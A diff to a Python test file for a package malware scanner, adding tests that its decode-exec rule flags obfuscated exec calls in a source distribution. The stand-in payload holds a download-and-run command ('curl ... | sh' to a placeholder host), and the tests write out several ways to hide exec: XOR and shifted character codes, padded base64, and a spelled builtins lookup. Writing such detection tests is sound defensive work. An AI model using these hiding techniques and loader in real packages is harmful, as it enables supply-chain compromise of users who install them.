@@ -244,6 +244,60 @@ def test_decode_exec_fires_for_code_spelled_as_numbers_in_a_constant(
     assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
 
 
+# an inert stand-in for a second stage: the command line it holds is never run
+_STAGE = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
+_XORED = repr([ord(c) ^ 7 for c in _STAGE])
+_SHIFTED = repr([ord(c) + 3 for c in _STAGE])
+_ONE_UP = "".join(chr(ord(c) + 1) for c in _STAGE)
+_ENCODED = base64.b64encode(_STAGE.encode()).decode()
+_PADDED_B64 = "\n    ".join(_ENCODED[i : i + 12] for i in range(0, len(_ENCODED), 12))
+
+
+@pytest.mark.parametrize(
+    "module",
+    [
+        f"_CODES = {_XORED}\nexec(''.join(map(chr, (c ^ 7 for c in _CODES))))\n",
+        f"_CODES = {_SHIFTED}\nexec(''.join(chr(c - 3) for c in _CODES))\n",
+        f"_TEXT = {_ONE_UP!r}\nexec(''.join(chr(ord(ch) - 1) for ch in _TEXT))\n",
+        f"import base64\n_BLOB = '''\n    {_PADDED_B64}\n'''\n"
+        "exec(base64.b64decode(''.join(_BLOB.split())))\n",
+    ],
+    ids=["xor-map", "shift-generator", "shifted-text", "whitespace-padded-base64"],
+)
+def test_decode_exec_fires_for_code_spelled_with_a_key_or_padding(
+    tmp_path: Path, scanner: Scanner, module: str
+) -> None:
+    # what the decoder computes is the payload, read like any source: its download shows
+    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+    assert any(f.reason.startswith("decoded payload:") for f in result.findings), describe(result)
+
+
+def test_exec_fetched_from_builtins_chosen_at_run_time_is_exec(tmp_path: Path, scanner: Scanner) -> None:
+    # `__builtins__` is a module in `__main__` and a dict elsewhere: malware picks either branch
+    module = (
+        "import base64\nimport sys\n"
+        "_e = getattr(__builtins__ if isinstance(__builtins__, type(sys)) else __import__('builtins'), "
+        "'ex' + 'ec')\n"
+        f"_e(base64.b64decode({base64.b64encode(INERT_CODE.encode())!r}))\n"
+    )
+    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+def test_a_builtin_fetched_by_a_spelled_name_that_runs_nothing_is_quiet(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    # the spelled lookup itself is an obfuscation signal (suspicious, as before); the call is no exec
+    module = (
+        "import base64\nimport builtins\n_p = getattr(builtins, 'pr' + 'int')\n"
+        "_p(base64.b64decode('cmVhZHk='))\n"
+    )
+    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
+    assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS)
+    assert_quiet(result, "obfuscated-exec", not_verdict=Verdict.MALICIOUS)
+
+
 def test_decode_exec_benign_numbers_spelled_into_a_label(tmp_path: Path, scanner: Scanner) -> None:
     module = f"_CODES = {_codes('build-label')}\nLABEL = ''.join(map(chr, _CODES))\nprint(bytes(_CODES))\n"
     assert_quiet(scan(write_sdist(tmp_path, {INIT: module}), scanner), "decode-exec")
